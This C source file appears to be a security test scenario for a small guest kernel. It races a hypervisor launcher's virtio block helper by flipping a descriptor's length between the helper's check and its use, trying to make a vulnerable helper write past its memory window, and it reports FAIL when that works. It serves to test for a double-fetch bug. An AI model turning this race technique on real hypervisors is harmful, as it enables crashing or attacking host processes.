/*
 * blkrace: a Guest racing the launcher's block helper over one descriptor
 * (issue 13, finding 6).
 *
 * The helper reads our descriptors out of Guest memory while we run on
 * another CPU.  A launcher that reads a status descriptor's length once to
 * check it and again to use it can be made to check 1 and use a length
 * that puts the status byte on the first byte past its window (RAM plus
 * its 1 MiB device area): its guard page, so its helper dies of SIGSEGV.
 * A launcher that reads each descriptor once sees 1 (harmless) or the big
 * length, which it refuses as outside guest memory, and exits.
 *
 * The window between the two reads is a few nanoseconds, so we aim.  The
 * helper is kept busy with short harmless requests; every few of them is
 * the attack request, a long chain whose status descriptor comes last, so
 * the helper reaches it a while after it took the request (which we see:
 * the used index moves).  Each attack waits a delay, then makes the length
 * big for a moment and puts 1 back.  The delay starts long (the big length
 * comes after the helper is done with the descriptor: harmless) and
 * shrinks by one step per attack, so the big length comes earlier and
 * earlier: it crosses the window between the two reads (a launcher reading
 * twice writes outside) before it reaches the one read a careful launcher
 * makes (which then refuses).  After `sweeps=` sweeps the length stays
 * big: any launcher must refuse it then.  Requests are of a type no device
 * knows, so serving one touches nothing but its status byte.  A launcher
 * that serves the attack request with the big length in place is a FAIL.
 *
 * store=debugger takes the timing out of our hands (see blkrace_debugger).
 */
#include "tinyguest.h"

#define LAUNCHER_DEVICE_AREA 0x100000     /* the project's launcher: 256 device pages above RAM */
#define BLK_T_UNKNOWN 0xFF                /* served as VIRTIO_BLK_S_UNSUPP, no I/O */
#define CHAIN 200                         /* descriptors in the attack request, the status last */
#define IN_FLIGHT 4                       /* requests published ahead of the helper */
#define EVERY 4                           /* one attack request in this many */
#define DELAY_MAX 600                     /* the first attack's delay, in spin rounds */
#define CALL_OUT 0xFFFF                   /* an exit to the launcher every 65536 spins */

struct outhdr { uint32_t type, ioprio; uint64_t sector; };

static struct outhdr hdr = { BLK_T_UNKNOWN, 0, 0 };
static volatile uint8_t status[2], filler;
static const char nothing[] = "";
static struct virtqueue *vq;
static uint16_t published;
static uint32_t spins;

/*
 * One spin round.  The launcher learns that a helper died (SIGCHLD) only
 * when its read returns, and a Guest that never traps keeps it in the
 * read: now and then hand it an empty early-console string.
 */
static void spin(void)
{
	if (!(++spins & CALL_OUT))
		hcall(LHCALL_NOTIFY, PA(nothing), 0, 0, 0);
}

/* Keep the helper busy: requests up to IN_FLIGHT ahead of it, the attack every EVERY. */
static void publish(void)
{
	while ((uint16_t)(published - vq->used->idx) < IN_FLIGHT) {
		vq->avail->ring[published % vq->num] = published % EVERY ? CHAIN : 0;
		mb();
		vq->avail->idx = ++published;
		if (!(vq->used->flags & VRING_USED_F_NO_NOTIFY))
			hcall(LHCALL_NOTIFY, vq->pfn * PAGE_SIZE, 0, 0, 0);
	}
}

/* Until the helper has finished request `idx - 1`; how far past that it is by now. */
static uint16_t wait_used(uint16_t idx)
{
	uint16_t used;
	while ((int16_t)((used = vq->used->idx) - idx) < 0) {
		publish();
		spin();
	}
	return (uint16_t)(used - idx);
}

/* One attack request, the length as it stands; how long the helper said it made its reply. */
static uint32_t serve_once(void)
{
	uint16_t at = published;
	vq->avail->ring[at % vq->num] = 0;
	mb();
	vq->avail->idx = ++published;
	hcall(LHCALL_NOTIFY, vq->pfn * PAGE_SIZE, 0, 0, 0);
	while (vq->used->idx == at)
		spin();
	return vq->used->ring[at % vq->num].len;
}

/*
 * store=debugger: the same store, timed by the host instead of by us.  We
 * say where the status descriptor's length lives, wait for a byte on the
 * console (the host's debugger is watching the helper by then) and send
 * one attack request with the length 1.  The debugger makes our store, the
 * big length, the moment the helper's bounds check of that descriptor
 * returns.  A launcher that reads the length again writes the status byte
 * into its guard page and its helper dies; one that kept its copy serves
 * the request with the length it checked.  Then we leave the length big,
 * which any launcher must refuse.
 */
static void blkrace_debugger(volatile uint32_t *len, uint32_t big)
{
	static char go[8];
	struct virtqueue *rx = console_rx_queue();
	if (!rx) {
		kputs("tinyguest: blkrace FAIL no virtio console\n");
		return;
	}
	struct vbuf b = { go, sizeof(go), 1 };
	vq_add(rx, &b, 1);
	vq_kick(rx);
	kprintf("tinyguest: blkrace aim status=0x%x len_at=0x%x big=%u\n", PA(&status[0]), PA(len), big);
	uint32_t got;
	vq_wait_used(rx, &got);
	uint32_t flags = irq_save();
	uint32_t reply = serve_once();
	kprintf("tinyguest: blkrace served the checked length: reply=%u status=%u\n", reply, status[0]);
	*len = big;
	serve_once();
	irq_restore(flags);
	kprintf("tinyguest: blkrace FAIL the launcher served a status buffer of %u bytes\n", big);
}

void scen_blkrace(void)
{
	uint32_t sweeps = arg_uint("sweeps", 1);
	if (blk_init()) {
		kputs("tinyguest: blkrace FAIL no virtio block device\n");
		return;
	}
	vq = blk_queue();
	struct vring_desc *d = vq->desc;
	d[0] = (struct vring_desc){ PA(&hdr), sizeof(hdr), VRING_DESC_F_NEXT, 1 };
	for (unsigned i = 1; i < CHAIN - 1; i++)
		d[i] = (struct vring_desc){ PA(&filler), 1, VRING_DESC_F_NEXT, i + 1 };
	d[CHAIN - 1] = (struct vring_desc){ PA(&status[0]), 1, VRING_DESC_F_WRITE, 0 };
	d[CHAIN] = (struct vring_desc){ PA(&hdr), sizeof(hdr), VRING_DESC_F_NEXT, CHAIN + 1 };
	d[CHAIN + 1] = (struct vring_desc){ PA(&status[1]), 1, VRING_DESC_F_WRITE, 0 };
	uint32_t big = mem_bytes + LAUNCHER_DEVICE_AREA - PA(&status[0]) + 1;
	volatile uint32_t *len = &d[CHAIN - 1].len;
	vq->avail->flags = VRING_AVAIL_F_NO_INTERRUPT;
	published = vq->avail->idx;
	if (!strcmp(arg_str("store", "guest"), "debugger")) {
		blkrace_debugger(len, big);
		return;
	}
	kprintf("tinyguest: blkrace ready chain=%u big=%u\n", CHAIN, big);

	uint32_t flags = irq_save();
	uint32_t attacks = 0;
	/* The next attack request in the ring that the helper has not taken yet. */
	uint16_t at = (uint16_t)(vq->used->idx + EVERY - vq->used->idx % EVERY);
	for (uint32_t s = 0; s < sweeps; s++) {
		for (uint32_t delay = DELAY_MAX; delay > 0; at += EVERY) {
			if (wait_used(at))
				continue;      /* we looked too late: the helper is past it already */
			/* The helper has just taken the attack request. */
			for (volatile uint32_t i = 0; i < delay; i++)
				;
			*len = big;
			*len = 1;
			wait_used((uint16_t)(at + 1));
			delay--;
			attacks++;
		}
	}
	kprintf("tinyguest: blkrace %u attacks, the length stays big now\n", attacks);
	*len = big;
	at = (uint16_t)(published + EVERY - published % EVERY);     /* published from now on */
	wait_used((uint16_t)(at + 1));
	irq_restore(flags);
	kprintf("tinyguest: blkrace FAIL the launcher served a status buffer of %u bytes\n", big);
}
